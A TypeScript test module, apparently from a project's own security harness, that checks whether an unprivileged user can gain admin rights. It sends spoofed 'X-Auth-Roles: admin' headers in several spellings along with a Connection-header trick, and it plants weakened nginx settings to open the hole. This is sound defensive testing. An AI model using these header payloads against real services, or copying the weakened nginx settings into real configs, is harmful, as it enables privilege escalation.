import { createUser, signInAdmin, tokenOf } from '../../support/users.ts'
import { askUpstream } from '../ask-upstream.ts'
import type { Attack } from '../attack.ts'

/** What CGI and WSGI make of a header's name; PHP does so with dots as well. */
const asVariable = (name: string) => name.toUpperCase().replaceAll(/[-.\s]/g, '_')

const spellings = [
  'X-Auth-Roles',
  'x-auth-roles',
  'X_Auth_Roles',
  'X-Auth_Roles',
  'X_Auth-Roles',
  'X.Auth.Roles',
  'X-Auth.Roles',
  'X.Auth_Roles',
]

export const claimedRole: Attack = {
  finding: 'M6',
  title: 'a user without roles sends a header that the upstream mistakes for the guard’s, and is an admin there',
  plants: [
    {
      file: 'infra/nginx/nginx.conf',
      replace: [['merge_slashes off;', 'merge_slashes off; underscores_in_headers on; ignore_invalid_headers off;']],
    },
  ],
  run: async () => {
    const token = await tokenOf(await createUser(await signInAdmin(), 'pretender'))
    const believed: string[] = []
    for (const name of spellings) {
      const sent = await askUpstream([`Authorization: Bearer ${token}`, `${name}: admin`, 'Connection: X-Auth-Roles'])
      if (sent.some(([it, value]) => asVariable(it) === 'X_AUTH_ROLES' && value === 'admin')) believed.push(name)
    }
    return {
      succeeded: believed.length > 0,
      figures: `${believed.length} of ${spellings.length} spellings came through${believed.length > 0 ? `: ${believed.join(', ')}` : ''}`,
    }
  },
}
